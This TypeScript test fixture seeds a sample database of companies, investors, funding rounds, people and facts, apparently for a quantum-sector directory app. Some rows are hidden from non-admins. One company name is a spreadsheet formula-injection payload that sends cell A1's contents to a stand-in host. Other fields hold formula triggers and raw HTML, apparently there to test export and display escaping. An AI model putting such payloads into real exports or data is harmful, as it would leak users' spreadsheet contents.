import { foldText } from '#domain/query/fold.ts';
import type { Database } from '#server/database/database.ts';
import { storeRows, type StoredRow } from './storeRows.ts';

/** The id of the nth row of the sample of a letter: o organization, r round, c class, p person, s source, f fact. */
export const sampleId = (letter: string, index: number): string =>
  `${letter.codePointAt(0)!.toString(16).padStart(8, '0')}-0000-4000-8000-${String(index).padStart(12, '0')}`;

const id = sampleId;

/** Organizations of the sample that everybody may see, beside those with a name of their own. */
export const PLAIN_COMPANIES = 8;

/** Rows that only admins may see: a pending company, a declined one, a pending round and a pending person. */
export const HIDDEN = {
  pending: id('o', 90),
  declined: id('o', 91),
  round: id('r', 90),
  person: id('p', 90),
} as const;

/** A name that a spreadsheet would run, and one of many scripts. */
export const FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"Click")';
export const UNICODE_NAME = 'Zürich "Quanten", 量子 🚀 Ωmega;\nsecond line';

const approved = { status: 'APPROVED' };
const named = (name: string): StoredRow => ({ name, name_key: foldText(name) });

function organization(index: number, name: string, more: StoredRow = {}): StoredRow {
  return {
    ...approved,
    entity_types: ['company'],
    aliases: [],
    former_names: [],
    email: [],
    phone: [],
    modality: [],
    key_sources: [],
    secondary_classification_ids: [],
    lead_investor_ids: [],
    slug: `org-${index}`,
    id: id('o', index),
    ...named(name),
    ...more,
  };
}

const ORGANIZATIONS: readonly StoredRow[] = [
  organization(1, 'Acme Qubits', {
    aliases: ['ACME'],
    former_names: ['Old Acme'],
    website: 'https://acme.test/',
    founded: 2016,
    description: 'Builds <b>cryogenic</b> & "optical" parts.',
    city: 'Köln',
    state: 'NRW',
    country: 'DE',
    in_region: 'EMEA',
    lat: 50.9,
    lng: 6.9,
    linked_in: 'https://linkedin.test/acme',
    ticker: 'ACQ',
    email: ['info@acme.test'],
    phone: ['-49 221'],
    modality: ['trapped ion', 'photonic'],
    key_sources: ['https://acme.test/news'],
    operating_status: 'active',
    of_business_type: 'hardware',
    has_investment_arm: false,
    total_raised_usd: 12500000.5,
    round_count: 2,
    last_round_date: '2023-05-04',
    last_round_type: 'series_a',
    primary_classification_id: id('c', 2),
    completeness: 80,
    employees_min: 11,
    secondary_classification_ids: [id('c', 3)],
    lead_investor_ids: [id('o', 20)],
    employee_range: '11-50',
  }),
  organization(2, FORMULA_NAME, {
    description: '+1',
    city: '@city',
    state: '-x',
    modality: ['=1+1'],
    founded: 2019,
  }),
  organization(3, UNICODE_NAME, {
    country: 'CH',
    founded: 2020,
    part_of_id: id('o', 1),
    acquired_on: '2022-01-02',
  }),
  ...Array.from({ length: PLAIN_COMPANIES }, (_, index) =>
    organization(10 + index, `Plain ${index}`, {
      founded: index % 2 === 0 ? 2015 + index : null,
      country: 'US',
    }),
  ),
  organization(20, 'Alpha Capital', {
    entity_types: ['investor'],
    of_investor_type: 'venture_capital',
    country: 'US',
  }),
  organization(21, 'Beta Ventures', { entity_types: ['investor', 'company'], country: 'DE', deal_count: 2 }),
  organization(90, 'Secret Pending', {
    status: 'PENDING',
    country: 'FR',
    modality: ['hidden'],
    acquired_by_id: id('o', 1),
  }),
  organization(91, 'Secret Declined', {
    status: 'DECLINED',
    entity_types: ['investor'],
    part_of_id: id('o', 1),
  }),
];

const round = (index: number, name: string, more: StoredRow = {}): StoredRow => ({
  ...approved,
  id: id('r', index),
  entity_id: id('o', 1),
  ...named(name),
  ...more,
});

const ROUNDS: readonly StoredRow[] = [
  round(1, 'Seed', {
    date: '2020-02-29',
    funding_usd: 25e5,
    funding_info: 'seed',
    round_group: 'equity',
    active: true,
    local_currency: 'EUR',
    funding_local: 2200000.25,
    fx_rate: 1.1363,
    fx_date: '2020-02-28',
    funding: '€2.2m',
  }),
  round(2, 'Series A', {
    date: '2023-05-04',
    funding_usd: 10_000_000,
    funding_info: 'series_a',
    national_strategy: false,
  }),
  round(3, 'Bridge', { entity_id: id('o', 2), funding_info: 'bridge', amount_qualifier: 'up_to' }),
  round(4, 'Of a secret', { entity_id: HIDDEN.pending, date: '2021-01-01' }),
  round(90, 'Pending round', { status: 'PENDING', date: '2024-01-01', funding_usd: 1 }),
];

const investment = (index: number, from: number, to: number, more: StoredRow = {}): StoredRow => ({
  ...approved,
  id: id('i', index),
  funding_round_id: id('r', from),
  investor_id: id('o', to),
  ...more,
});

const INVESTMENTS: readonly StoredRow[] = [
  investment(1, 1, 20, { is_lead: true, investor_type: 'venture_capital' }),
  investment(2, 1, 21, { is_lead: false }),
  investment(3, 2, 20, { is_lead: false }),
  investment(4, 2, 21, { is_lead: true, status: 'PENDING' }),
  investment(5, 1, 91, { is_lead: true }),
  investment(6, 90, 20),
];

const CLASSES: readonly StoredRow[] = [
  [1, 'Hardware', 'hardware', null, [1]],
  [2, 'Processors', 'processors', 1, [1, 2]],
  [3, 'Software', 'software', null, [3]],
].map(([index, name, slug, parent, path]) => ({
  ...approved,
  id: id('c', index as number),
  ...named(name as string),
  slug,
  aliases: [],
  position: index,
  level: parent === null ? 1 : 2,
  parent_classification_id: parent === null ? null : id('c', parent as number),
  ancestor_ids: (path as number[]).map((at) => id('c', at)),
}));

const PEOPLE: readonly StoredRow[] = [
  { ...approved, id: id('p', 1), ...named('Ada Example'), first_name: 'Ada', last_name: 'Example' },
  { status: 'PENDING', id: HIDDEN.person, ...named('Pending Person') },
];

const ROLES: readonly StoredRow[] = [
  {
    ...approved,
    id: id('e', 1),
    person_id: id('p', 1),
    organization_id: id('o', 1),
    title: 'CEO',
    role_type: null,
  },
  { ...approved, id: id('e', 2), person_id: HIDDEN.person, organization_id: id('o', 1), title: 'CTO' },
];

const FACTS: readonly StoredRow[] = [
  ['APPROVED', 'founded', 2016],
  ['PENDING', 'city', 'Bonn'],
].map(([status, field, value], index) => ({
  id: id('f', index),
  subject_kind: 'organization',
  subject_id: id('o', 1),
  field,
  value,
  status,
  method: 'reported',
  confidence: 'high',
  recorded_at: '2024-01-01T00:00:00Z',
  recorded_by: 'test',
  source_id: id('s', 1),
}));

/** A small sector: rows of every kind, some of them hidden from visitors, links between all of them. */
export async function storeSampleSector(database: Database): Promise<void> {
  const countries = ['CH', 'DE', 'FR', 'US'].map((code, index) => ({
    id: id('n', index),
    code,
    name: code,
    region: code === 'US' ? 'Americas' : 'EMEA',
  }));
  await storeRows(database, 'country', countries);
  await storeRows(database, 'classification', CLASSES);
  // One insert takes the same columns for all its rows; here each brings its own.
  for (const row of ORGANIZATIONS) await storeRows(database, 'organization', [row]);
  for (const row of ROUNDS) await storeRows(database, 'funding_round', [row]);
  await storeRows(database, 'investment', INVESTMENTS);
  await storeRows(database, 'person', PEOPLE);
  await storeRows(database, 'role', ROLES);
  await storeRows(database, 'source', [
    { id: id('s', 1), title: 'A page', url: 'https://source.test/', licence: 'CC0' },
  ]);
  await storeRows(database, 'fact', FACTS);
}
